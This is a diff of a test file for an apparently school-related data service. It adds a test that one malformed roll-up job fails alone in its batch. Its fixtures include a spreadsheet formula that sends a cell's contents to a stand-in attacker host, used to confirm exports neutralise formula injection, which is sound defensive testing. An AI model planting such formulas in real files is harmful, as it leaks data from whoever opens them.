@@ -1,11 +1,13 @@
 // Values that reach the service from outside and could hurt it or its users: names that a spreadsheet would run as
-// formulas (neutralised in every export), marks dated outside the years the service holds (refused), and values as
-// big as a file (never sent back whole in an error).
+// formulas (neutralised in every export), marks dated outside the years the service holds (refused), a roll-up job
+// that cannot be done (it fails alone), and values as big as a file (never sent back whole in an error).
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { Queue } from 'bullmq';
 import { parse } from 'csv-parse/sync';
+import { ROLLUP_QUEUE, type RollupJob } from '../../pipelines/rollup/rollup.types.js';
 import type { SchoolOverview } from '../../server/src/api-contract.js';
 import { addDays, previousAcademicYearStart, todayInLondon } from '../../server/src/common/dates.js';
-import { post, settled, startServer, type TestServer } from '../support/server.js';
+import { post, settled, startServer, waitFor, type TestServer } from '../support/server.js';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
 // gias-small.csv's columns; three Camden primaries, two of them named by someone hostile.
@@ -32,6 +34,7 @@ function register(date: string): string {
 }
 
 let server: TestServer;
+const QUEUE_PREFIX = `test-hostile-values-${process.pid}-${Date.now()}`;
 
 async function csv(path: string, token: string): Promise<Record<string, string>[]> {
   const response = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
@@ -40,8 +43,8 @@ async function csv(path: string, token: string): Promise<Record<string, string>[
 }
 
 beforeAll(async () => {
-  // The default window of mark dates (the test server's own MARK_DATES_FROM left out).
-  server = await startServer({ MARK_DATES_FROM: undefined });
+  // The default window of mark dates (the test server's own MARK_DATES_FROM left out), and a queue this test can reach.
+  server = await startServer({ MARK_DATES_FROM: undefined, QUEUE_PREFIX });
   expect((await post(server, '/api/v1/reference/schools', GIAS, server.token('admin'))).status).toBe(201);
   const submitted = await post(server, '/api/v1/submissions', register(todayInLondon()), server.token('submitter'));
   expect(submitted.status).toBe(202);
@@ -106,6 +109,29 @@ describe('marks dated outside the years the service holds', () => {
       expect((await post(server, '/api/v1/submissions', file(date), server.token('submitter'))).status).toBe(202);
     }
     await settled(server);
+  });
+});
+
+describe('a roll-up job that cannot be done', () => {
+  it('fails alone: the jobs taken in the same batch are done', async () => {
+    const connection = { host: '127.0.0.1', port: 6379 };
+    const queue = new Queue<RollupJob>(ROLLUP_QUEUE, { connection, prefix: QUEUE_PREFIX });
+    try {
+      // No register can carry such a date now (above), so the job is queued directly, as one could be before the
+      // window: its academic year starts in year 0, which the date arithmetic cannot take. Queued together, the jobs
+      // are taken in one batch; one attempt each, so the outcome is final at once.
+      const today = todayInLondon();
+      const slice = (i: number): [number, string] => (i === 2 ? [930001, '0001-01-01'] : [930001 + (i % 3), today]);
+      const job = (i: number) => ({ name: 'recompute', data: { slices: [slice(i)] }, opts: { attempts: 1 } });
+      const jobs = await queue.addBulk([0, 1, 2, 3, 4, 5].map(job));
+      const states = () => Promise.all(jobs.map((job) => job.getState()));
+      const ended = async () => (await states()).every((s) => s === 'completed' || s === 'failed');
+      await waitFor(ended, 30_000, 'the jobs to end');
+      expect(await states()).toEqual(['completed', 'completed', 'failed', 'completed', 'completed', 'completed']);
+      expect(server.output()).toMatch(/Roll-up of \d+ jobs failed \(Invalid time value\): recomputing them in halves/);
+    } finally {
+      await queue.close();
+    }
   });
 });
 
